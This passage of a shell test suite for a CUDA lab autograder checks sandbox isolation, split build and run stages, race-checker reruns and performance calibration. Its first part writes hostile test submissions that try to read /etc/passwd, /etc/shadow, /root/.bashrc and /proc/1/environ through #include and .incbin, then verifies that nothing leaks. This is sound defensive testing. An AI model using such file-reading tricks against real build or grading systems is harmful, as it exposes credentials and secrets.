# nothing, and no line of either file reaches any output of the grader.
# leaked DIR: the lines (8 bytes or more) of /etc/passwd and /etc/shadow
# that appear in a file under DIR.
leaked() {
    local f
    for f in /etc/passwd /etc/shadow; do
        [ -r "$f" ] && awk 'length >= 8' "$f"
    done > "$TMP/host-lines"
    [ -s "$TMP/host-lines" ] && grep -rhoF -f "$TMP/host-lines" "$1" | sort -u | head -3
}
H="$TMP/hostfiles"
# attack NAME LINE: a submission whose lab 01 is the solution after LINE.
attack() { mkdir -p "$H/$1/labs/$L1"; { printf '%s\n' "$2"; cat "$SOL1"; } > "$H/$1/labs/$L1/kernel.cu"; }
attack include-passwd '#include "/etc/passwd"'
attack include-shadow '#include "/etc/shadow"'
attack incbin-passwd '__asm__(".incbin \"/etc/passwd\"");'
attack include-root '#include "/root/.bashrc"'
attack include-proc '#include "/proc/1/environ"'
attack include-solution "#include \"$SOL1\""
hostfile_checks() {  # MODE OUT: the checks on one grading of $H
    local mode=$1 o=$2 leak
    leak=$(leaked "$o")
    check "$mode: no line of /etc/passwd or /etc/shadow in any output of the grader${leak:+ (found: $leak)}" \
        test -z "$leak" -a -d "$o/students"
    check "$mode: an .incbin of /etc/passwd does not assemble (the file is not in the build's view)" \
        test "$(status "$o" incbin-passwd 01)" = compile_error \
             -a -n "$(grep -rl 'file not found: /etc/passwd' "$o/students/incbin-passwd/logs")"
    check "$mode: an #include of /etc/passwd, /etc/shadow, /root or the reference solution finds no file" \
        test "$(for s in include-passwd include-shadow include-root include-solution; do
                    jget "$o/students/$s/report.json" '.labs[0].text' | grep -q 'No such file or directory' && echo -n y
                done)" = yyyy
    check "$mode: the grader's environment is not in any output (an #include of /proc/1/environ)" \
        test -z "$(grep -rl "hunter2-$$" "$o")" -a -e "$o/students/include-proc/report.json"
}
if [ "$sandbox" = none ]; then
    skip "the build's view of the system" "bubblewrap does not work here"
else
    GRADER_SECRET_TOKEN=hunter2-$$ "$GRADE" --labs 01 --no-sanitize --no-calibrate -q -o "$TMP/o-host" "$H"/* \
        > "$TMP/o-host.log" 2>&1
    check "the probe looked for the host's users' files from inside a build (build-view-closed)" \
        test "$(jq '.sandbox_checks | index("build-view-closed") != null' "$TMP/o-host/run.json")" = true
    hostfile_checks "$(jget "$TMP/o-host/run.json" .sandbox)" "$TMP/o-host"
fi
# As root with the nobody mode failing: what the grader cannot move for
# nobody is the toolchain (here an nvcc wrapper in a folder only root may
# pass, the grader's $TMP): refused, unless --sandbox bwrap-root asks for
# bubblewrap as root, whose build sees no more of the host than nobody's.
if [ "$(id -u)" = 0 ] && [ "$sandbox" = bwrap-nobody ]; then
    mkdir -p "$TMP/tc/bin"
    printf '#!/bin/sh\nexec %s "$@"\n' "$(command -v nvcc || echo /usr/local/cuda/bin/nvcc)" > "$TMP/tc/bin/nvcc"
    chmod 755 "$TMP/tc" "$TMP/tc/bin" "$TMP/tc/bin/nvcc"
    mode=$(stat -c %a "$TMP")
    out=$(NVCC="$TMP/tc/bin/nvcc" "$GRADE" --labs 01 --no-sanitize --no-calibrate -q -o "$TMP/o-tc" "$H"/* 2>&1); rc=$?
    check "as root, the nobody sandbox failing: refused (5), never a fallback to root" \
        test $rc = 5 -a -n "$(grep REFUSED <<<"$out")" -a -z "$(find "$TMP/o-tc/students" -name report.json)"
    check "the refusal names the private folder around the toolchain and the one command that fixes it" \
        test -n "$(grep -F "cannot pass through $TMP (mode 0$mode) to reach $TMP/tc" <<<"$out")" \
             -a -n "$(grep -F "\`chmod o+x $TMP\`" <<<"$out")"
    GRADER_SECRET_TOKEN=hunter2-$$ NVCC="$TMP/tc/bin/nvcc" "$GRADE" --labs 01 --no-sanitize --no-calibrate -q \
        --sandbox bwrap-root -o "$TMP/o-tc" "$H"/* > "$TMP/o-root.log" 2>&1
    check "--sandbox bwrap-root: bubblewrap as root, chosen on the command line" \
        test "$(jget "$TMP/o-tc/run.json" .sandbox)" = bwrap
    hostfile_checks "bwrap as root" "$TMP/o-tc"
    # The command the refusal named, then the same grading as nobody.
    chmod o+x "$TMP"
    NVCC="$TMP/tc/bin/nvcc" "$GRADE" --labs 01 --no-sanitize --no-calibrate -q -o "$TMP/o-tc2" "$S/alice" > /dev/null 2>&1
    check "after chmod o+x, the same grading runs as nobody" \
        test "$(jget "$TMP/o-tc2/run.json" .sandbox)" = bwrap-nobody -a -e "$TMP/o-tc2/students/alice/report.json"
    chmod "$mode" "$TMP"
else
    skip "as root, the nobody sandbox failing: refused unless --sandbox bwrap-root" "not root, or no nobody sandbox here"
fi

# ---- check --build-only / --run-only / --wrap ---------------------------------

WD="$TMP/split"
"$TUTOR" check 01 --file "$SOL1" --build-only --work-dir "$WD" --json > "$TMP/b.json"; rc=$?
check "check --build-only leaves build.json and the runner" \
    test "$(jget "$TMP/b.json" .status)" = no_gpu -a -f "$WD/build.json" -a -x "$WD/runner"
check "check --build-only is a stage of its own: built, under no_gpu's exit code 3" \
    test "$(jget "$TMP/b.json" .built)" = true -a "$(jget "$WD/build.json" .built)" = true -a $rc = 3
stamp=$(stat -c %Y.%s "$WD/kernel.o")
sleep 1
printf '#!/bin/sh\necho "$@" >> "%s"\nexec "$@"\n' "$TMP/wrap.log" > "$TMP/wrap.sh"
chmod +x "$TMP/wrap.sh"
"$TUTOR" check 01 --file "$SOL1" --run-only --work-dir "$WD" --wrap "$TMP/wrap.sh" --no-sanitize --json > "$TMP/r.json"; rc=$?
check "check --run-only runs the build without compiling again" \
    test "$(stat -c %Y.%s "$WD/kernel.o")" = "$stamp" -a "$(jget "$TMP/r.json" .compile.ok)" = true \
         -a "$(jget "$TMP/r.json" '.techniques[0].found')" = true
check "check --run-only keeps the build's seed" test "$(jq .seed "$TMP/r.json")" = "$(jq .seed "$TMP/b.json")"
check "check --wrap runs the judge through the wrapper, with the runner" \
    test -n "$(grep -F "/judge_reduce_int --json" "$TMP/wrap.log" | grep -F -- "--runner $WD/runner")"
if [ $gpu = 1 ]; then
    check "check --run-only gives the verdict" test "$(jget "$TMP/r.json" .status)" = pass
else
    check "check --run-only gives the verdict" test "$(jget "$TMP/r.json" .status)" = no_gpu -a $rc = 3
fi
out=$("$TUTOR" check 01 --file "$SOL1" --run-only --work-dir "$TMP/none" 2>&1); rc=$?
check "check --run-only without a build is refused (4) and says why" test $rc = 4 -a -n "$(grep 'no build in' <<<"$out")"
out=$("$TUTOR" check 02 --file "$SOL1" --run-only --work-dir "$WD" 2>&1); rc=$?
check "check --run-only of another lab's build is refused" test $rc = 4 -a -n "$(grep 'is of lab 01, not 02' <<<"$out")"
cp "$SOL1" "$TMP/k.cu"
out=$("$TUTOR" check 01 --file "$TMP/k.cu" --run-only --work-dir "$WD" 2>&1); rc=$?
check "check --run-only of another file's build is refused" test $rc = 4 -a -n "$(grep 'is of' <<<"$out")"
"$TUTOR" check 01 --file "$TMP/k.cu" --build-only --work-dir "$TMP/split2" --json > /dev/null
echo "// changed" >> "$TMP/k.cu"
out=$("$TUTOR" check 01 --file "$TMP/k.cu" --run-only --work-dir "$TMP/split2" 2>&1); rc=$?
check "check --run-only of a file changed since its build is refused" test $rc = 4 -a -n "$(grep 'changed since' <<<"$out")"
"$TUTOR" check 01 --file tests/bank/host_sum.cu --build-only --work-dir "$TMP/split3" --json > /dev/null
"$TUTOR" check 01 --file tests/bank/host_sum.cu --run-only --work-dir "$TMP/split3" --json > "$TMP/r3.json"; rc=$?
check "check --run-only of a rejected build is rejected" test $rc = 1 -a "$(jget "$TMP/r3.json" .status)" = rejected
check "a build that ended in a verdict is not built" test "$(jget "$TMP/split3/build.json" .built)" = null
# The stage, not the status, says a build waits for its run: a build.json
# whose "built" is gone is a no_gpu verdict, and nothing runs.
jq 'del(.built)' "$WD/build.json" > "$TMP/unbuilt.json" && cp "$TMP/unbuilt.json" "$WD/build.json"
: > "$TMP/wrap.log"
"$TUTOR" check 01 --file "$SOL1" --run-only --work-dir "$WD" --wrap "$TMP/wrap.sh" --no-sanitize --json \
    > "$TMP/r4.json"; rc=$?
check "--run-only of a build.json that is no build gives its verdict and runs no judge" \
    test $rc = 3 -a "$(jget "$TMP/r4.json" .status)" = no_gpu -a ! -s "$TMP/wrap.log"
"$TUTOR" check 01 --build-only --run-only > /dev/null 2>&1; rc=$?
check "check --build-only --run-only is a usage error" test $rc = 2

# ---- a grader's two runs of one build: --sanitize-later, --sanitize-from --------

out=$("$TUTOR" check 01 --file "$SOL1" --sanitize-later 2>&1); rc=$?
check "--sanitize-later outside --run-only is a usage error: a student's verdict is whole" \
    test $rc = 2 -a -n "$(grep -F 'go with --run-only' <<<"$out")"
out=$("$TUTOR" check 01 --file "$SOL1" --run-only --work-dir "$TMP/split4" --sanitize-later --no-sanitize 2>&1); rc=$?
check "--sanitize-later with --no-sanitize is a usage error" test $rc = 2
WD5="$TMP/split5"
"$TUTOR" check 03 --file tests/bank/missing_syncthreads.cu --build-only --work-dir "$WD5" --json > /dev/null
"$TUTOR" check 03 --file tests/bank/missing_syncthreads.cu --run-only --work-dir "$WD5" --sanitize-later \
    --json > "$TMP/first.json"
jq '.seed += 1' "$TMP/first.json" > "$TMP/first-seed.json"
out=$("$TUTOR" check 03 --file tests/bank/missing_syncthreads.cu --run-only --work-dir "$WD5" \
      --sanitize-from "$TMP/first-seed.json" 2>&1); rc=$?
check "--sanitize-from a result of another seed is refused (4): its pass is not this build's" \
    test $rc = 4 -a -n "$(grep -F 'not a result of this build' <<<"$out")"
# A race the judge's trials may miss: the second run's race checkers turn a
# pass that the first run left pending (here made so by hand, on a GPU).
jq '.status = "pass" | .sanitizer = {ran: false, pending: true}' "$TMP/first.json" > "$TMP/first-pass.json"
if [ $gpu = 1 ]; then
    "$TUTOR" check 03 --file tests/bank/missing_syncthreads.cu --run-only --work-dir "$WD5" \
        --sanitize-from "$TMP/first-pass.json" --json > "$TMP/second.json"
    check "--sanitize-from runs the race checkers a pending pass awaits, and they turn it" \
        test "$(jget "$TMP/second.json" .status)" = fail -a "$(jget "$TMP/second.json" .sanitizer.ran)" = true \
             -a "$(jget "$TMP/second.json" .sanitizer.pending)" = null
    "$TUTOR" check 01 --file "$SOL1" --build-only --work-dir "$TMP/split7" --json > /dev/null
    "$TUTOR" check 01 --file "$SOL1" --run-only --work-dir "$TMP/split7" --sanitize-later --json > "$TMP/later.json"
    check "--sanitize-later: a GPU pass leaves its race checkers pending, and runs none" \
        test "$(jget "$TMP/later.json" .status)" = pass -a "$(jget "$TMP/later.json" .sanitizer.pending)" = true \
             -a "$(jget "$TMP/later.json" .sanitizer.ran)" = false
    WD6="$TMP/split6"
    "$TUTOR" check 03 --file tests/bank/hazard_pass_budget_dodge.cu --build-only --work-dir "$WD6" --json > /dev/null
    CUDATUTOR_NO_EMULATOR= "$TUTOR" check 03 --file tests/bank/hazard_pass_budget_dodge.cu --run-only \
        --work-dir "$WD6" --sanitize-later --json > "$TMP/open.json"
    check "--sanitize-later: a kernel whose hazard pass did not finish is judged whole at once (fail), nothing pending" \
        test "$(jget "$TMP/open.json" .status)" = fail -a "$(jget "$TMP/open.json" .sanitizer.pending)" = null
    "$GRADE" --labs 01 --seed 4242 --no-calibrate -j 2 -q -o "$TMP/o-san" "$S/alice" > "$TMP/o-san.log" 2>&1
    check "graded with the race checkers: the pass's second run ran all three, nothing left pending" \
        test "$(jget "$TMP/o-san/students/alice/report.json" '.labs[0].status')" = pass \
             -a "$(jq '[.sanitizer.tools[] | select(.clean)] | length' \
                   "$TMP/o-san/students/alice/labs/01.json" 2>/dev/null)" = 3 \
             -a "$(jq '.sanitizer.pending' "$TMP/o-san/students/alice/labs/01.json")" = null
else
    "$TUTOR" check 03 --file tests/bank/missing_syncthreads.cu --run-only --work-dir "$WD5" \
        --sanitize-from "$TMP/first.json" --json > "$TMP/second.json"
    check "without a GPU nothing is left pending, and --sanitize-from keeps the first run's verdict" \
        test "$(jget "$TMP/first.json" .sanitizer.pending)" = null \
             -a "$(jget "$TMP/second.json" .status)" = "$(jget "$TMP/first.json" .status)" -a "$(jq .seed "$TMP/second.json")" = "$(jq .seed "$TMP/first.json")"
fi

# ---- calibration of the targets ------------------------------------------------

C1="$TMP/cal1"
"$GRADE" --labs 01 --no-sanitize -j 2 -q -o "$C1" "$S/alice" > "$TMP/cal1.log" 2>&1; rc=$?
if [ $gpu = 1 ]; then
    g=$(jq -r '.gpus | keys[0]' "$C1/calibration.json" 2>/dev/null)
    check "calibration: lab 01's solution measured on this GPU, the threshold never above the catalog's" \
        test "$(jq -r --arg g "$g" '.gpus[$g] | (.name != "") and (.labs["01"].solution_here > 0)
                                   and (.labs["01"].min <= .labs["01"].catalog_min)' "$C1/calibration.json")" = true
    # The file is reused while the GPU is the same: a threshold planted in it
    # (raised here, so that the solution misses it) is what judges the run.
    C2="$TMP/cal2"
    mkdir -p "$C2"
    jq --arg g "$g" '.gpus[$g].labs["01"] += {min: 0.5, lowered: true}' "$C1/calibration.json" > "$C2/calibration.json"
    cp "$C2/calibration.json" "$TMP/cal2-before.json"
    "$GRADE" --labs 01 --no-sanitize -j 2 -q -o "$C2" "$S/alice" > "$TMP/cal2.log" 2>&1
    check "calibration: a saved calibration for this GPU is reused, not measured again" \
        cmp -s "$C2/calibration.json" "$TMP/cal2-before.json"
    check "calibration: the run is judged by its threshold, and the report names the catalog's" \
        test "$(jq -c '.labs[0] | [.target.min, .target.catalog_min, .target.met]' "$C2/students/alice/report.json")" = \
             '[0.5,0.12,false]'
    check "calibration: the performance points say the threshold was changed for this GPU" \
        test -n "$(jget "$C2/students/alice/report.json" '.labs[0].performance.why' | grep -F "lowered for this GPU from the catalog's 0.12")"
else
    check "calibration: without a GPU nothing is measured and nothing written" \
        test $rc = 3 -a ! -e "$C1/calibration.json" -a -z "$(grep -i calibrat "$TMP/cal1.log")"
fi

# ---- self-test ---------------------------------------------------------------

# On a GPU the whole bank of lab 01; without one, where only the rejections
# have a verdict, the hostile launchers that raw system calls and forged
# reports make (bank.sh judges every file on the CPU already, outside the
# grader's sandbox).
if [ $gpu = 1 ]; then bank='*'; else bank='@(raw_*|forged_report|ifunc_resolver|opens_*|writes_channel)'; fi
# On a GPU with the hazard pass, which tests/lib.sh turns off: some bank
# kernels (a barrier in divergent code, a half-warp shuffle mask) only it fails.
if [ $gpu = 1 ]; then hazards=; else hazards=1; fi
out=$(CUDATUTOR_NO_EMULATOR=$hazards "$GRADE" --selftest --labs 01 --bank "$bank" --no-sanitize -j 2 -o "$TMP/selftest" 2>&1); rc=$?
right=$(sed -n 's/^selftest: \([0-9]*\) judged right, \([0-9]*\) wrong, \([0-9]*\) not run.*/\1 \2 \3/p' <<<"$out")
read -r n_right n_wrong n_notrun <<<"${right:-0 1 0}"
grep -F WRONG <<<"$out" | sed 's/^/# /'
if [ $gpu = 1 ]; then
    check "selftest (lab 01): every bank kernel and the solution judged right" test $rc = 0 -a "$n_wrong" = 0
else
    check "selftest (lab 01) on the CPU: the hostile launchers rejected in the sandbox, the solution not run (3)" \
        test $rc = 3 -a "$n_wrong" = 0 -a "$n_right" -ge 10 -a "$n_notrun" = 1
fi
out=$("$GRADE" --bank 'raw_*' -o "$TMP/o-bank" "$S/alice" 2>&1); rc=$?
check "--bank without --selftest is a usage error (2)" test $rc = 2 -a -n "$(grep -F -- "--bank goes with --selftest" <<<"$out")"
echo "# $(tail -n1 <<<"$out")"
